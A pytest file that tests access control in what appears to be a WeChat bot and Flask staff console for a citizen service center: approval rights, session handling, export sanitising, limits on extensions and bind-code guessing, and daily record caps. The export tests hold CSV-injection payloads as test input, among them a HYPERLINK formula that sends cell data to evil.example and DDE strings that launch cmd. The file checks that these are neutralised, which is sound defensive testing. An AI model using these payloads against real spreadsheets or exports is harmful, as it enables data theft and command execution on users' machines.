"""Access control, each an attack tried against the app: through the signed webhook as WeChat delivers
messages, and against the console with Flask's test client (the browser tests cover the console pages
where a browser matters)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from concurrent.futures import ThreadPoolExecutor

import pytest
import werkzeug.security

from bot.store.access import BIND_CODE_LENGTH
from bot.exports import safe_cell
from handlers import binding, record_form
from tests.test_console import add_people, csrf_of, sign_in
from tests.test_records import complain, number_of

BOOKING_CODE = re.compile(r"预约编号：(\w+)")


@pytest.fixture()
def people(store):
    """The sample center: 李强 keeps the meeting room, 王芳 the gym and reading room, 张书记 leads."""
    add_people(store, ("李强", "o_li", "window"), ("王芳", "o_wang", "window"), ("张书记", "o_leader", "leader"),
               ("刘管理", "o_admin", "admin"))


def meeting(chat, user="o_m"):
    reply = chat.send("预约 会议室 明天 下午 张三 13800138000", user=user)
    assert "待审核" in reply, reply
    return BOOKING_CODE.search(reply)[1]


def status_of(ctx, code):
    letters = {r.code: r.id for r in ctx.kb.resources.values()}
    return ctx.store.bookings.get(code, letters)["status"]


def texts_to(store, openid):
    return [i.payload["content"] for i in store.outbox_for_user(openid)]


# -- 1. bookings are decided by the resource's staff, leaders and admins ----------------------------
def test_a_clerk_of_another_resource_cannot_approve_or_decline_a_booking_on_wechat(chat, ctx, people):
    code = meeting(chat)
    assert "不能处理" in chat.send(f"同意 {code}", user="o_wang")
    assert "不能处理" in chat.send(f"拒绝 {code} 不想给", user="o_wang")
    assert status_of(ctx, code) == "pending"
    assert "已同意" in chat.send(f"同意 {code}", user="o_li")  # the meeting room's own staff
    assert status_of(ctx, code) == "confirmed"


def test_leaders_and_admins_decide_any_booking_on_wechat(chat, ctx, people):
    first = meeting(chat, "o_m1")
    assert "已拒绝" in chat.send(f"拒绝 {first} 当天有检查", user="o_leader")
    second = meeting(chat, "o_m2")
    assert "已同意" in chat.send(f"同意 {second}", user="o_admin")
    assert status_of(ctx, first) == "declined" and status_of(ctx, second) == "confirmed"


def test_a_clerk_of_another_resource_cannot_approve_in_the_console(client, chat, ctx, people):
    code = meeting(chat)
    sign_in(client, "王芳")
    page = client.get("/staff/bookings?resource=meeting-room").get_data(as_text=True)
    assert code in page and f"/staff/bookings/{code}/approve" not in page  # no button for her
    token = csrf_of(client, "/staff/bookings")
    client.post(f"/staff/bookings/{code}/approve", data={"csrf": token})  # forged by hand
    client.post(f"/staff/bookings/{code}/decline", data={"csrf": token, "reason": "不想给"})
    assert status_of(ctx, code) == "pending"
    assert "不能处理" in client.get("/staff/bookings").get_data(as_text=True)


# -- 2. console sessions live on the server --------------------------------------------------------
def session_cookie(client):
    cookie = client.get_cookie("session", path="/staff")
    return cookie.value if cookie else ""


def with_cookie(app, value):
    thief = app.test_client()
    thief.set_cookie("session", value, path="/staff")
    return thief


def signed_out(c):
    res = c.get("/staff/", follow_redirects=False)
    return res.status_code == 302 and res.headers["Location"].endswith("/staff/login")


def test_the_cookie_holds_only_a_random_session_id(client, people, store):
    sign_in(client, "李强")
    value = session_cookie(client)
    assert re.fullmatch(r"[A-Za-z0-9_-]{43}", value)
    assert not any(value in k for k in store.r.keys("*"))  # Redis keeps only its hash


def test_a_copied_cookie_is_dead_after_signing_out(app, client, people):
    sign_in(client, "李强")
    stolen = session_cookie(client)
    assert not signed_out(with_cookie(app, stolen))  # the copy works while the session lives
    client.post("/staff/logout", data={"csrf": csrf_of(client, "/staff/")})
    assert signed_out(with_cookie(app, stolen))


@pytest.mark.parametrize("change", ["password", "role", "removal"])
def test_a_password_or_role_change_or_removal_ends_the_members_sessions(app, client, people, store, change):
    sign_in(client, "王芳")
    stolen = session_cookie(client)
    assert not signed_out(client)
    if change == "password":
        store.set_password("王芳", "new-secret-456")
    elif change == "role":
        store.add_staff("王芳", "o_wang", "delegate")
    else:
        store.remove_staff("王芳")
    assert signed_out(client) and signed_out(with_cookie(app, stolen))
    if change != "removal":
        sign_in(client, "王芳", "new-secret-456" if change == "password" else "secret-123")
        assert not signed_out(client)  # signing in again works


def test_signing_in_gives_a_new_session_id(app, client, people):
    csrf_of(client)
    planted = session_cookie(client)  # an id an attacker could have planted before sign-in
    assert planted
    sign_in(client, "李强")
    assert session_cookie(client) != planted and signed_out(with_cookie(app, planted))


# -- 3. exports neutralise formulas ------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
def test_a_cell_a_spreadsheet_would_run_is_prefixed(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["张三", "13800138000", "TS20261123-0001", "", "a=b", "2026-11-23 09:30"])
def test_ordinary_cells_are_unchanged(text):
    assert safe_cell(text) == text


def cells(res):
    return [c for row in csv.reader(io.StringIO(res.get_data(as_text=True).lstrip("\ufeff"))) for c in row]


def test_a_citizens_formula_is_text_in_every_export(client, chat, people, store):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    chat.send("我要投诉", user="o_evil")
    chat.send(evil, user="o_evil")
    chat.send("张三", user="o_evil")
    no = number_of(chat.send("13800138000", user="o_evil"))
    chat.send(f"办结 {no} -已处理", user="o_li")
    chat.send("5", user="o_evil")
    chat.send("@SUM(1+1)*cmd|' /C calc'!A0", user="o_evil")  # the reason of a bad rating
    chat.send('+cmd|" /C calc"!A0 办护照去哪', user="o_ref")  # a referral
    sign_in(client, "张书记")
    seen = []
    for kind in ("records", "ratings", "referrals", "bookings"):
        res = client.get(f"/staff/export/{kind}.csv?since=2026-11-01&until=2026-11-30")
        assert res.status_code == 200
        seen += cells(res)
    assert "'" + evil in seen and "'-已处理" in seen and "'@SUM(1+1)*cmd|' /C calc'!A0" in seen
    assert any(c.startswith("'+cmd") for c in seen)  # the referral ledger's question
    assert not [c for c in seen if c and c[0] in "=+-@\t\r"]


# -- 4. bounds ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("days", ["31", "400", "99999999"])
def test_a_clerk_cannot_extend_beyond_30_working_days_on_wechat(chat, store, people, days):
    no = number_of(complain(chat))
    due = store.records.get(no)["due"]
    reply = chat.send(f"延期 {no} {days} 天 需要调取监控", user="o_li")
    assert "1至30个工作日" in reply and "领导" in reply
    assert store.records.get(no)["due"] == due


def test_a_leader_may_extend_longer_within_a_bound(chat, store, people):
    no = number_of(complain(chat))
    assert f"已延期：{no}" in chat.send(f"延期 {no} 40 天 涉及多个部门", user="o_leader")
    due = store.records.get(no)["due"]
    assert "1至250个工作日" in chat.send(f"延期 {no} 99999999 天 再等等", user="o_leader")
    assert store.records.get(no)["due"] == due


@pytest.mark.parametrize("days", ["400", "99999999", "9" * 5000, "-3", "0"])
def test_the_console_refuses_an_absurd_extension_politely(client, chat, store, people, days):
    no = number_of(complain(chat))
    due = store.records.get(no)["due"]
    sign_in(client, "李强")
    token = csrf_of(client, f"/staff/records/{no}")
    res = client.post(f"/staff/records/{no}/extend", data={"csrf": token, "days": days, "reason": "再等等"})
    assert res.status_code == 302
    page = client.get(f"/staff/records/{no}").get_data(as_text=True)
    assert "延期天数" in page and store.records.get(no)["due"] == due


def test_add_working_days_refuses_absurd_counts(ctx):
    with pytest.raises(ValueError):
        ctx.calendar.add_working_days(dt.date(2026, 11, 23), 99_999_999)
    with pytest.raises(ValueError):
        ctx.calendar.add_working_days(dt.date(2026, 11, 23), -1)
    assert ctx.calendar.add_working_days(dt.date(2026, 11, 23), 1) == dt.date(2026, 11, 24)


@pytest.mark.parametrize("query", [
    "/staff/records?since=0001-01-01", "/staff/records?until=9999-12-31",
    "/staff/records?since=9999-12-31&until=9999-12-31", "/staff/stats?since=0001-01-01&until=9999-12-31",
    "/staff/export/records.csv?since=2025-01-01&until=2026-11-30", "/staff/export/bookings.csv?since=0001-01-01",
    "/staff/records?since=2026-11-30&until=2026-11-01", "/staff/records?since=2026-13-01",
    "/staff/bookings?week=9999-12-31", "/staff/bookings?week=0001-01-01"])
def test_a_date_range_out_of_bounds_gets_a_polite_400(client, people, query):
    sign_in(client, "张书记")
    res = client.get(query)
    assert res.status_code == 400, (query, res.status_code)
    assert "请" in res.get_data(as_text=True)


def test_a_range_of_400_days_is_still_served(client, people):
    sign_in(client, "张书记")
    assert client.get("/staff/export/records.csv?since=2025-10-27&until=2026-11-30").status_code == 200


# -- 5. 绑定 codes ----------------------------------------------------------------------------------
def test_bind_codes_are_long(store):
    code = store.access.issue_bind_code("王芳")
    assert len(code) == BIND_CODE_LENGTH >= 12 and code.isalnum()


def test_guessing_bind_codes_is_stopped_and_the_administrators_are_told_once(chat, store, people):
    code = store.access.issue_bind_code("李强")
    replies = [chat.send(f"绑定 {n:012d}", user="o_guesser") for n in range(20)]
    assert all("无效" in r for r in replies[:binding.MAX_FAILURES])
    assert all("暂停" in r for r in replies[binding.MAX_FAILURES:])
    assert "暂停" in chat.send(f"绑定 {code}", user="o_guesser")  # even a right code, while paused
    warnings = [t for t in texts_to(store, "o_leader") if "绑定码" in t]
    assert len(warnings) == 1 and "o_gu" in warnings[0]
    assert [t for t in texts_to(store, "o_admin") if "绑定码" in t] == warnings
    assert "已绑定" in chat.send(f"绑定 {code}", user="o_li_new")  # the real owner is not locked out


def test_wrong_tries_at_one_code_void_it(chat, store, people):
    code = store.access.issue_bind_code("李强")
    wrong = code[:4] + ("A" * 8 if code[4:] != "A" * 8 else "B" * 8)
    for n, user in enumerate(("o_x1", "o_x2", "o_x3")):  # from different openids: counted on the code
        assert "无效" in chat.send(f"绑定 {wrong}", user=user)
    assert "无效" in chat.send(f"绑定 {code}", user="o_li_new")
    assert store.staff("李强")["openid"] == "o_li"
    assert any("李强的绑定码" in t and "作废" in t for t in texts_to(store, "o_leader"))


def test_bind_code_alerts_reach_an_administrator_outside_48_hours_as_the_template_message(
        chat, ctx, store, people, clock, standin, settings_env):
    import dataclasses

    from bot.config import Settings
    from bot.wechat_api import make_client
    from bot.worker import OutboxSender
    from knowledge.schema import Notifications
    from tests.standin import field_fits

    fields = {"character_string1": "number", "thing2": "subject", "phrase3": "status", "time4": "time",
              "thing5": "hint"}
    standin.templates["TPL-NOTICE"] = list(fields)
    ctx.kb = dataclasses.replace(ctx.kb, center=ctx.kb.center.model_copy(update={
        "notifications": [Notifications(kind="template", template_id="TPL-NOTICE", fields=fields)]}))
    settings = Settings.from_env(dict(settings_env, WECHAT_APP_ID="wxapp", WECHAT_APP_SECRET="secret",
                                      WECHAT_API_BASE=standin.base))
    sender = OutboxSender(store, make_client(settings, store), lambda: ctx.kb.center)
    chat.send("你好", user="o_leader")
    clock.advance(hours=49)  # the leader last wrote two days ago: a text cannot reach them
    code = store.access.issue_bind_code("李强")
    wrong = code[:4] + ("A" * 8 if code[4:] != "A" * 8 else "B" * 8)
    for n in range(binding.MAX_FAILURES):
        chat.send(f"绑定 {wrong if n < 3 else f'{n:012d}'}", user="o_guesser")
    sender.run_once()
    to_leader = [m for m in standin.accepted("/cgi-bin/message/template/send") if m["touser"] == "o_leader"]
    subjects = sorted(m["data"]["thing2"]["value"] for m in to_leader)
    assert subjects == ["有人连续输错绑定码", "李强的绑定码已作废"], subjects
    assert all(field_fits(name, entry["value"]) for m in to_leader for name, entry in m["data"].items())
    assert standin.sent() == [] or all(m["touser"] != "o_leader" for m in standin.sent())


# -- 6. new records per citizen per day ------------------------------------------------------------
def test_a_citizen_makes_at_most_five_records_a_day_and_the_leaders_are_told_once(chat, ctx, store, people):
    limit = ctx.kb.center.records.daily_per_person
    assert limit == 5
    numbers = [number_of(complain(chat, user="o_flood")) for _ in range(limit)]
    queued = store.outbox_counts()["queued"]
    for _ in range(3):
        reply = chat.send("窗口工作人员态度太差了", user="o_flood")
        assert "每日登记上限" in reply and "请" in reply
    assert len(store.records.of_user("o_flood")) == limit
    told = [t for t in texts_to(store, "o_leader") if "每日登记上限" in t]
    assert len(told) == 1 and all(no in told[0] for no in numbers)
    assert store.outbox_counts()["queued"] == queued + 1  # the one warning, nothing else
    assert number_of(complain(chat, user="o_neighbour"))  # others are not affected


def test_many_records_at_once_cannot_pass_the_limit_and_a_retry_still_passes(ctx, people):
    """The count is taken atomically when a record is made: 20 at once (as an attacker's burst) get 5."""
    with ThreadPoolExecutor(max_workers=10) as pool:
        refusals = list(pool.map(lambda i: record_form.over_daily_limit(ctx, "o_burst", f"o_burst:m{i}"), range(20)))
    allowed = [i for i, r in enumerate(refusals) if r is None]
    assert len(allowed) == 5
    assert record_form.over_daily_limit(ctx, "o_burst", f"o_burst:m{allowed[0]}") is None  # WeChat's retry
    assert len([t for t in texts_to(ctx.store, "o_leader") if "每日登记上限" in t]) == 1


def test_record_numbers_past_9999_a_day_still_work(chat, store, people):
    store.r.set("centerbot:{rec}:seq:20261123", 9999)
    no = number_of(complain(chat))
    assert no == "TS20261123-10000"
    assert no in chat.send(f"查询 {no}", user="o_cit")
    for command in (f"接单 {no}", f"回复 {no} 正在核实"):
        assert f"：{no}，" in chat.send(command, user="o_li"), command
    assert f"延期申请：{no} 延期3个工作日" in chat.send(f"延期 {no} 3 天 需要调取监控", user="o_li")
    assert no in chat.send(f"同意延期 {no}", user="o_leader")  # a staff member's extension waits for a leader
    assert f"：{no}，" in chat.send(f"办结 {no} 已处理", user="o_li")
    assert store.records.get(no)["status"] == "done"


# -- 7. sign-in timing -------------------------------------------------------------------------------
def test_an_unknown_name_costs_the_same_hash_work_as_a_known_one(client, people, monkeypatch):
    calls = []
    real = werkzeug.security._hash_internal

    def counting(method, salt, password):
        calls.append(method)
        return real(method, salt, password)

    monkeypatch.setattr(werkzeug.security, "_hash_internal", counting)
    sign_in(client, "李强", "wrong-password")
    known = list(calls)
    calls.clear()
    sign_in(client, "不存在的人", "wrong-password")
    assert known and calls == known


# -- 8. unsubscribing -------------------------------------------------------------------------------
def test_unsubscribing_cancels_coming_bookings_frees_seats_and_tells_the_staff(chat, ctx, store, people):
    reply = chat.send("预约 健身房 明天 下午3点 张三 13800138000", user="o_leaving")
    code = BOOKING_CODE.search(reply)[1]
    assert store.bookings.seats_taken("gym", "20261124", ["1500"])["1500"] == 1
    chat.event("unsubscribe", user="o_leaving")
    assert store.bookings.seats_taken("gym", "20261124", ["1500"])["1500"] == 0
    letters = {r.code: r.id for r in ctx.kb.resources.values()}
    booking = store.bookings.get(code, letters)
    assert booking["status"] == "cancelled" and booking["phone"] == "138****8000" and booking["name"] == "张*"
    assert any(code in t and "取消关注" in t for t in texts_to(store, "o_wang"))
    assert not any(code in str(job) for job, _ in store.jobs("due"))  # no reminder left


@pytest.mark.parametrize("day", ["9999年12月31日", "0001年1月1日", "9999-12-31"])
def test_a_booking_for_an_absurd_day_is_refused_politely(chat, day):
    reply = chat.send(f"预约 健身房 {day} 上午10点 张三 13800138000", user="o_far")
    assert "请" in reply and "预约成功" not in reply
